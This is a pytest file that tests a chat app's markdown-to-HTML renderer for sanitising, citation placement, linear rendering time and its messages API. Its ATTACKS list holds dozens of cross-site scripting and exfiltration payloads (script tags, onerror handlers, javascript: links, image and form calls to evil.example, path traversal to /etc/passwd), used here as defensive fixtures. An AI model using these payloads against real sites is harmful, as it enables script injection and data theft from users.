"""Messages as HTML: nothing runs or loads, links pass on no address, citations stay, and the time is linear."""

import re
from html.parser import HTMLParser
from pathlib import Path

import anyio
import anyio.to_thread
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from agentic_rag.base.events import Reference
from agentic_rag.base.ids import DocumentId
from agentic_rag.conversations.message_html import MAX_RENDERED, to_html
from agentic_rag.conversations.shown_messages import ShownCitation
from agentic_rag.testing.steps import Cite, Say, Step, say, use
from tests.growth import growth
from tests.server.rig import Rig

TAGS = {
    *("a", "blockquote", "br", "code", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "img", "li", "ol", "p", "pre"),
    *("s", "strong", "sup", "table", "tbody", "td", "th", "thead", "tr", "ul"),
    *("dd", "div", "dl", "dt", "section", "span"),
    *("math", "mfrac", "mi", "mn", "mo", "mover", "mpadded", "mphantom", "mroot", "mrow", "mspace", "msqrt", "mstyle"),
    *("msub", "msubsup", "msup", "mtable", "mtd", "mtext", "mtr", "munder", "munderover"),
}
ATTRIBUTES = {
    *("href", "title", "rel", "src", "alt", "class", "start", "style"),
    *("data-number", "data-document", "data-chunk", "data-note"),
    *("display", "mathvariant", "stretchy", "fence", "accent", "width", "height", "depth", "minsize", "maxsize"),
    *("displaystyle", "scriptlevel", "columnalign", "linethickness", "movablelimits", "largeop", "voffset", "lspace"),
}
CLASSES = re.compile(r"citation|footnote|footnotes|formula|box|task|task done|hl-[kfnscid]|language-[\w+#.-]+")


class Reader(HTMLParser):
    """Reads a fragment as a browser's tokeniser does, and rejects forbidden content."""

    def __init__(self) -> None:
        super().__init__()
        self.numbers: list[str] = []
        self.links: list[str] = []
        self.pictures: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        attributes = dict(attrs)
        assert tag in TAGS, tag
        assert attributes.keys() <= ATTRIBUTES, attributes
        if tag == "a":
            assert set((attributes.get("rel") or "").split()) == {"noopener", "noreferrer", "nofollow"}
            if "href" in attributes:
                assert re.match(r"(https?://|mailto:)", attributes["href"] or "", re.IGNORECASE), attributes
                self.links.append(attributes["href"] or "")
        if "src" in attributes:
            assert tag == "img"
            assert re.fullmatch(r"/api/[\w./~-]+", attributes["src"] or ""), attributes
            assert "/.." not in (attributes["src"] or "")
            self.pictures.append(attributes["src"] or "")
        if "style" in attributes:
            assert re.fullmatch(r"text-align: ?(left|right|center);?", attributes["style"] or ""), attributes
        if "class" in attributes:
            assert CLASSES.fullmatch(attributes["class"] or ""), attributes
        if tag == "sup" and attributes.get("class") == "citation":
            self.numbers.append(attributes["data-number"] or "")

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(data)


def parse_html(fragment: str) -> Reader:
    reader = Reader()
    reader.feed(fragment)
    reader.close()
    return reader


ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<form action=https://evil.example><input name=password></form>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<body background=https://evil.example/x.png onload=alert(1)>",
    "<video poster=https://evil.example/x.png><source src=https://evil.example/x.mp4></video>",
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/path)",
    "[x](\\\\evil.example\\path)",
    "[x](/api/domains)",
    '[x](https://ok.example "onmouseover=alert(1)")',
    '[x](https://ok.example" onmouseover="alert(1))',
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '<https://ok.example/"onmouseover="alert(1)>',
    "![x](https://evil.example/steal.png?q=secret)",
    "![x](//evil.example/x.png)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](javascript:alert(1))",
    "![x](/api/../evil.png)",
    "![x](/api/payloads/../../x)",
    "![x](/api/payloads/ref_1?next=//evil.example)",
    "![x](/api/payloads/%2e%2e/%2e%2e/x)",
    "![x](/evil.png)",
    '!["><script>alert(1)</script>](/api/payloads/ref_1)',
    "[![x](https://evil.example/x.png)](https://evil.example)",
    "[![<img src=x onerror=alert(1)>](x)](y)",
    '```"><script>alert(1)</script>\ncode\n```',
    "```js onload=alert(1)\n</code></pre><script>alert(1)</script>\n```",
    "`</code><script>alert(1)</script>`",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "<!-- --><img src=x onerror=alert(1)> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo 1 ?><!DOCTYPE html>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<a id=location name=cookie class='fixed' style='position:fixed;inset:0'>x</a>",
    "<sup class=citation data-number=9>[9]</sup>",
    "\U000124731\U00012474 \U0001247399\U00012474",
    "&#x12473;1&#x12474; &#74867;99&#74868; &#X0012473;7&#x12474;",
    r"$\text{<script>alert(1)</script>}$",
    r"$\text{&lt;script&gt;alert(1)&lt;/script&gt;}$",
    r"$\text{&amp;lt;img src=x onerror=alert(1)&amp;gt;}$",
    r"$\href{javascript:alert(1)}{x} \style{position:fixed}{y} \class{toast}{z}$",
    r"$$\unicode{x3c}img src=x onerror=alert(1)\unicode{x3e}$$",
    r"\(\operatorname{<img src=x onerror=alert(1)>}\) \[\color{red;background:url(//evil.example)}{x}\]",
    r"$\rule{9999em}{9999em} \hspace{9999em} \mathchoice{<svg onload=alert(1)>}{b}{c}{d}$",
    r"$\verb|<script>alert(1)</script>|$",
    '```python\n"</code></pre><script>alert(1)</script>\n```',
    "```html\n<script>alert(1)</script><img src=x onerror=alert(1)>\n```",
    "```mermaid\ngraph TD; A[<img src=x onerror=alert(1)>]-->B\nclick A href 'javascript:alert(1)'\n```",
    "x[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
    "x[^1]\n\n[^1]: [x](javascript:alert(1)) <img src=x onerror=alert(1)>",
    "<script>\n: <script>alert(1)</script>",
    "- [x] <script>alert(1)</script>\n- [ ] [x](javascript:alert(1))",
    "<x\u0000script>alert(1)</x\u0000script>",
]


def make_reference(number: int, name: str = "a.md") -> Reference:
    chunk = f'chunk_{number}"><script>'
    return Reference(number, DocumentId(f"doc_{number}"), name, chunk, "Cited.", 0.5)


@pytest.mark.attack(kind="model")
@pytest.mark.parametrize("text", ATTACKS)
def test_messages_contain_no_scripts_foreign_loads_or_unsafe_links(text: str) -> None:
    for around in (
        text,
        f"Words {text} more",
        f"> {text}",
        f"- a\n  - {text}",
        f"**{text}**",
        f"[{text}](https://a.example)",
    ):
        citations = [ShownCitation(end, 1) for end in (0, len(around) // 2, len(around))]
        for fragment in (to_html(around), to_html(around, citations, [make_reference(1, text)], breaks=True)):
            reader = parse_html(fragment)
            assert not [link for link in reader.links if "evil.example/path" in link]
        assert set(reader.numbers) == {"1"}


@given(st.text(st.sampled_from("[]()!<>\"'`*_~|#-=:/\\ \n\tahi&;0.$^{}x\U00012473\U00012474"), max_size=60), st.data())
@example("[a](http://x.example/y)", None)
def test_any_text_is_rendered_safely_with_all_its_citations(text: str, data: st.DataObject | None) -> None:
    ends = range(len(text) + 1) if data is None else data.draw(st.lists(st.integers(0, len(text)), max_size=4))
    citations = [ShownCitation(end, place + 1) for place, end in enumerate(ends)]
    reader = parse_html(to_html(text, citations, [make_reference(citation.number) for citation in citations]))
    assert {int(number) for number in reader.numbers} == {citation.number for citation in citations}
    assert not [link for link in reader.links if "%F0%92%91" in link or "\U00012473" in link]


@pytest.mark.parametrize(
    ("text", "end", "expected"),
    [
        ("Full **days.** Next", 14, "<p>Full <strong>days.</strong><sup>1</sup> Next</p>"),
        ("One.\n\nTwo.", 6, "<p>One.<sup>1</sup></p>\n<p>Two.</p>"),
        ("| a |\n|---|\n| b |\n", 18, "<td>b<sup>1</sup></td>"),
        ("```py\nx = 1\n```\n", 16, '= <span class="hl-n">1<sup>1</sup></span>\n</code></pre>'),
        ("```\nx = 1\n```\n", 14, "<pre><code>x = 1<sup>1</sup>\n</code></pre>"),
        ("$$\na+b\n$$\n", 9, "</math></div>\n<p><sup>1</sup></p>"),
        ("$$a+b$$\n", 7, "</math></div>\n<p><sup>1</sup></p>"),
        ("It is $a+b$ or so", 9, "</math><sup>1</sup> or so"),
        ("- one\n- two\n", 6, "<li>one<sup>1</sup></li>\n<li>two</li>"),
        ("# Title\n\nText", 9, "<h1>Title<sup>1</sup></h1>"),
        ("Title\n=====\nText", 12, "<h1>Title<sup>1</sup></h1>"),
        ("[a](https://a.example) b", 22, "</a><sup>1</sup> b"),
        ("第一条。第二条。", 4, "<p>第一条。<sup>1</sup>第二条。</p>"),
    ],
)
def test_a_citation_follows_the_text_it_supports_and_changes_no_other(text: str, end: int, expected: str) -> None:
    fragment = to_html(text, [ShownCitation(end, 1)], [make_reference(1)])
    assert expected in re.sub(r"<sup [^>]*>\[1\]</sup>", "<sup>1</sup>", fragment)
    # A mark after a formula on a separate line has its own paragraph.
    assert re.sub(r"<sup [^>]*>\[1\]</sup>", "", fragment).replace("<p></p>", "") == to_html(text)


def test_our_own_images_are_shown_and_others_as_their_text() -> None:
    assert parse_html(to_html("![a](/api/payloads/ref_1)")).pictures == ["/api/payloads/ref_1"]
    assert to_html("![a *b*](https://evil.example/x.png)") == "<p>a b</p>\n"


def test_a_text_too_long_to_render_is_shown_raw_with_its_citations() -> None:
    text = "<b>" + "*a* " * (MAX_RENDERED // 4)
    fragment = to_html(text, [ShownCitation(3, 1)], [make_reference(1)])
    assert fragment.startswith("<pre>&lt;b&gt;*a* ")
    assert parse_html(fragment).numbers == ["1"]


SLOW = {
    "brackets": "[",
    "pictures": "![",
    "links": "[a](",
    "definitions": "[a]: b\n",
    "emphasis": "*a_ ",
    "strong": "a**b",
    "both": "*[",
    "ticks": "`a ``b ",
    "tags": "<a ",
    "comments": "<!--",
    "addresses": "<http:",
    "entities": "&#1",
    "quotes": "> ",
    "lists": "- ",
    "rows": "|a|b|\n|-|-|\n",
    "lines": "a\n",
    "fences": "```\n",
    "strokes": "~~a ",
    "escapes": "\\",
    "dollars": "$a",
    "displayed": "$$\na\n",
    "brackets of formulas": "\\[\n",
    "formulas": "$\\frac{a}{b}$ ",
    "footnotes": "[^1]: a\n\n[^1] ",
    "definition lists": "a\n: b\n",
    "tasks": "- [ ] a\n",
}


@pytest.mark.parametrize(
    "unit",
    [
        pytest.param(unit, id=name, marks=[] if number % 5 == 0 else pytest.mark.nightly("a fifth is tried every time"))
        for number, (name, unit) in enumerate(SLOW.items())
    ],
)
def test_the_time_grows_linearly_with_the_text(unit: str) -> None:
    def render(text: str) -> None:
        citations = [ShownCitation(end, 1) for end in range(0, len(text), max(1, len(text) // 50))]
        parse_html(to_html(text, citations, [make_reference(1)]))

    short, long = unit * (4_000 // len(unit)), unit * (16_000 // len(unit))
    assert growth(render, short, long) < 11, "four times the text: quadratic growth would be sixteen times"


@pytest.mark.parametrize("tables", [1, 30])
def test_a_short_text_creates_no_large_table(tables: int) -> None:
    columns = 300
    head = "|".join("h" * columns) + "\n" + "|".join("-" * columns) + "\n"
    text = "\n".join([head + "cell\n" * 160] * tables)
    html = to_html(text)
    assert len(html) < 20 * len(text)
    assert html.count("<t") < 12_000
    assert html.count("cell") == 160 * tables


def test_an_ordinary_table_is_complete() -> None:
    html = to_html("| a | b |\n|---|---|\n" + "| one | two |\n" * 1_000 + "\n\nafter")
    assert (html.count("<td>"), html.count("<table>"), html.count("<p>")) == (2_000, 1, 1)


async def test_messages_come_as_html_beside_their_text_with_their_citations(tmp_path: Path) -> None:
    answer = Step((Say("The **rule** is 25", (Cite(0),)), Say(" days, as <b>said</b>.")))
    async with Rig(tmp_path, use("search_documents", query="leave"), answer) as rig:
        domain = await rig.domain()
        await rig.upload(domain, "leave.md", b"# Leave\n\nTwenty-five days of leave a year.")
        conversation = await rig.conversation(domain)
        turn_done = (await rig.say(conversation, "How many\n<i>days</i>?"))[-1]
        path = f"/api/conversations/{conversation}/messages"
        plain_messages = (await rig.ok("GET", path))["items"]
        assert not [message for message in plain_messages if "html" in message]
        question, html_answer = (await rig.ok("GET", path, params={"format": "html"}))["items"]
        assert question["html"] == "<p>How many<br>\n&lt;i&gt;days&lt;/i&gt;?</p>\n"
        assert "<strong>rule</strong>" in html_answer["html"]
        assert "&lt;b&gt;said" in html_answer["html"]
        (reference,) = html_answer["references"]
        assert f'data-chunk="{reference["chunkId"]}"' in html_answer["html"]
        assert parse_html(html_answer["html"]).numbers == ["1"]
        assert "[1]</sup> days" in html_answer["html"]
        for message in (question, html_answer):
            message_read = await rig.ok("GET", f"{path}/{message['id']}", params={"format": "html"})
            assert message_read == message
        assert html_answer["id"] == turn_done["messageId"]
        assert await rig.ok("GET", f"{path}/{html_answer['id']}") == plain_messages[1]
        assert (await rig.refused("GET", path, params={"format": "pdf"}))[:2] == (422, "VALIDATION_ERROR")


async def test_one_message_is_found_on_any_branch_and_nowhere_else(tmp_path: Path) -> None:
    async with Rig(tmp_path, say("First."), say("Second."), say("Other.")) as rig:
        conversation = await rig.conversation()
        old = (await rig.say(conversation, "Hi"))[-1]["messageId"]
        path = f"/api/conversations/{conversation}/messages"
        events = await rig.http.post(f"{path}/{old}/retry", json={})
        assert events.status_code == 200
        question, new = (await rig.ok("GET", path))["items"]
        assert (await rig.ok("GET", f"{path}/{old}"))["content"] == "First."
        assert await rig.ok("GET", f"{path}/{new['id']}") == new
        assert await rig.ok("GET", f"{path}/{question['id']}") == question
        other_conversation = await rig.conversation()
        await rig.say(other_conversation, "Hello")
        for where, message in ((other_conversation, old), (conversation, "msg_none"), ("conv_none", old)):
            status, code, _ = await rig.refused("GET", f"/api/conversations/{where}/messages/{message}")
            assert (status, code.removesuffix("_NOT_FOUND")) in ((404, "MESSAGE"), (404, "CONVERSATION"))


async def test_html_uses_none_of_the_threads_that_turns_need(tmp_path: Path) -> None:
    async with Rig(tmp_path, say("**Yes**")) as rig:
        conversation = await rig.conversation()
        await rig.say(conversation, "Well?")
        threads = anyio.to_thread.current_default_thread_limiter()
        before, threads.total_tokens = threads.total_tokens, 1
        try:
            async with threads:
                with anyio.fail_after(240):
                    page = await rig.ok("GET", f"/api/conversations/{conversation}/messages?format=html")
        finally:
            threads.total_tokens = before
    assert "<strong>Yes</strong>" in page["items"][-1]["html"]
